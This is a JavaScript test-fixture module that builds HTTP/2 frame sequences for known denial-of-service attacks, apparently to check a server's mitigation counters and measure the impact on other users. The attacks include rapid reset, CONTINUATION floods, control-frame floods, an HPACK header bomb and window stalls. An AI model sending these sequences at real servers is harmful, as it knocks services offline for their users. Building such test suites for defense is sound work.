// What has been done to servers of HTTP/2: each attack is one connection that sends so many rounds of frames at most. A table, for
// tests that ask how it ends and for measurements that ask what it costs others.
import {
  CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, frame, headers, block, field, PING, PRIORITY, RST_STREAM, SETTINGS, setting,
  u32, WINDOW_UPDATE,
} from './h2.mjs';

const odd = (i) => 2 * i + 1;
const INITIAL_WINDOW_SIZE = 4;
const HEADER_TABLE_SIZE = 1;
const BOMB_BYTES = 3000;
const BOMB_TIMES = 8000;

// fields: of a request that is served, of a tenant of the attacker's own; of `large` the answer is some hundred kilobytes.
// Each: rounds, and round(i, fields) as bytes; reason: the counter that tells it.
export const attacks = [
  {
    name: 'rapid reset',
    reason: 'rapid_reset',
    rounds: 1000,
    round: (i, { get }) => Buffer.concat([headers(odd(i), get), frame(RST_STREAM, 0, odd(i), u32(CANCEL))]),
  },
  {
    name: 'rapid reset, behind one another',
    reason: 'rapid_reset',
    rounds: 20,
    round: (i, { get }) => {
      const ids = Array.from({ length: 50 }, (_, k) => odd(1000 * i + 20 * k));
      return Buffer.concat([
        ...ids.map((id) => headers(id, get)),
        ...ids.map((id) => frame(RST_STREAM, 0, id, u32(CANCEL))),
      ]);
    },
  },
  {
    name: 'made you reset, by windows',
    reason: 'made_you_reset',
    rounds: 1000,
    round: (i, { get }) => Buffer.concat([headers(odd(i), get), frame(WINDOW_UPDATE, 0, odd(i), u32(0x7fffffff))]),
  },
  {
    name: 'made you reset, by malformed requests',
    reason: 'made_you_reset',
    rounds: 1000,
    round: (i, { get }) => headers(odd(i), { ...get, 'X-Upper': 'x' }),
  },
  {
    name: 'made you reset, by trailers that are none',
    reason: 'made_you_reset',
    rounds: 1000,
    round: (i, { get }) => Buffer.concat([headers(odd(i), get, END_HEADERS), headers(odd(i), Buffer.alloc(0), END_HEADERS)]),
  },
  {
    name: 'made you reset, by bodies that are too long',
    reason: 'made_you_reset',
    rounds: 1000,
    round: (i, { get }) =>
      Buffer.concat([headers(odd(i), { ...get, 'content-length': '1' }, END_HEADERS), frame(DATA, 0, odd(i), Buffer.alloc(2))]),
  },
  {
    name: 'CONTINUATION flood',
    reason: 'continuation_flood',
    rounds: 1000,
    round: (i, { get }) => (i === 0 ? headers(1, get, END_STREAM) : frame(CONTINUATION, 0, 1, field(`x-${i}`, 'x'))),
  },
  {
    name: 'CONTINUATION flood, empty',
    reason: 'continuation_flood',
    rounds: 1000,
    round: (i, { get }) => (i === 0 ? headers(1, get, END_STREAM) : frame(CONTINUATION, 0, 1)),
  },
  {
    name: 'CONTINUATION, a few on each of many streams, empty',
    reason: 'empty_frames',
    rounds: 1000,
    round: (i, { get }) =>
      Buffer.concat([
        headers(odd(i), get, END_STREAM),
        ...Array.from({ length: 6 }, () => frame(CONTINUATION, 0, odd(i))),
        frame(CONTINUATION, END_HEADERS, odd(i)),
      ]),
  },
  { name: 'SETTINGS flood', reason: 'settings_flood', rounds: 1000, round: () => frame(SETTINGS, 0, 0) },
  {
    name: 'SETTINGS flood, with a table of all sizes',
    reason: 'settings_flood',
    rounds: 1000,
    round: (i) => frame(SETTINGS, 0, 0, setting(HEADER_TABLE_SIZE, i % 2 ? 0 : 0xffffffff)),
  },
  { name: 'PING flood', reason: 'ping_flood', rounds: 1000, round: () => frame(PING, 0, 0, Buffer.alloc(8)) },
  {
    name: 'PRIORITY flood',
    reason: 'priority_flood',
    rounds: 2000,
    round: (i) => frame(PRIORITY, 0, odd(i), Buffer.concat([u32(0), Buffer.from([16])])),
  },
  {
    name: 'PRIORITY_UPDATE flood',
    reason: 'priority_flood',
    rounds: 2000,
    round: () => frame(0x10, 0, 0, Buffer.concat([u32(1), Buffer.from('u=0')])),
  },
  {
    name: 'empty DATA',
    reason: 'empty_frames',
    rounds: 1000,
    round: (i, { get }) => (i === 0 ? headers(1, get, END_HEADERS) : frame(DATA, 0, 1)),
  },
  {
    name: 'empty DATA with padding',
    reason: 'empty_frames',
    rounds: 1000,
    round: (i, { get }) => (i === 0 ? headers(1, get, END_HEADERS) : frame(DATA, 8, 1, Buffer.from([3, 0, 0, 0]))),
  },
  {
    name: 'empty DATA on a stream that is reset',
    reason: 'empty_frames',
    rounds: 1000,
    round: (i, { get }) => (i === 0 ? headers(1, { ...get, 'X-Upper': 'x' }, END_HEADERS) : frame(DATA, 0, 1)),
  },
  { name: 'unknown frames', reason: 'empty_frames', rounds: 1000, round: () => frame(0x42, 0, 0, Buffer.from('x')) },
  {
    name: 'header bomb',
    reason: 'header_bomb',
    rounds: 100,
    round: (i, { get }) =>
      headers(
        odd(i),
        Buffer.concat([block(get), field('bomb', 'x'.repeat(BOMB_BYTES), 0x40), Buffer.alloc(BOMB_TIMES, 0x80 | 62)])
      ),
  },
  {
    name: 'windows opened by crumbs',
    reason: 'window_stall',
    rounds: 5000,
    settings: setting(INITIAL_WINDOW_SIZE, 1),
    round: (i, { large }) => (i < 16 ? headers(odd(i), large) : frame(WINDOW_UPDATE, 0, odd(i % 16), u32(1))),
  },
  {
    name: 'WINDOW_UPDATE flood',
    reason: 'window_stall',
    rounds: 10000,
    round: () => frame(WINDOW_UPDATE, 0, 0, u32(1)),
  },
];
